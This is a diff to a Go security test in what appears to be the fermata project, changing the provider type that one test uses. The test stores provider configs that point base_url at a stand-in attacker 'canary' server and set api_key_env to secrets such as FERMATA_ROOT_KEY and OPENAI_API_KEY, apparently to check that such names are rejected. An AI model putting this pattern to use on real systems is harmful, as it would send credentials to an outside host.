@@ -13,6 +13,7 @@ import (
 	"github.com/fermata-dev/fermata/app"
 	"github.com/fermata-dev/fermata/app/e2e/harness"
 	"github.com/fermata-dev/fermata/domain"
+	"github.com/fermata-dev/fermata/domain/outside"
 )
 
 // canary is the host of an attacker who wants our keys: it records what it receives.
@@ -106,7 +107,7 @@ func TestStoredNamesOfVariablesAreChecked(t *testing.T) {
 	s, _, admin := closedServer(t)
 	for id, name := range map[string]string{"prv_1": "FERMATA_ROOT_KEY", "prv_2": "PATH", "prv_3": "OPENAI_API_KEY"} {
 		now := time.Now()
-		err := s.Parts.Store.Providers.InsertProvider(t.Context(), &domain.Provider{
+		err := s.Parts.Store.Providers.InsertProvider(t.Context(), &outside.Provider{
 			ID: id, WorkspaceID: domain.DefaultWorkspace, Name: id, Kind: "openai_compatible", CreatedAt: now, UpdatedAt: now,
 			Config: []byte(`{"model":"m","base_url":"` + evil.URL + `","api_key_env":"` + name + `"}`),
 		})
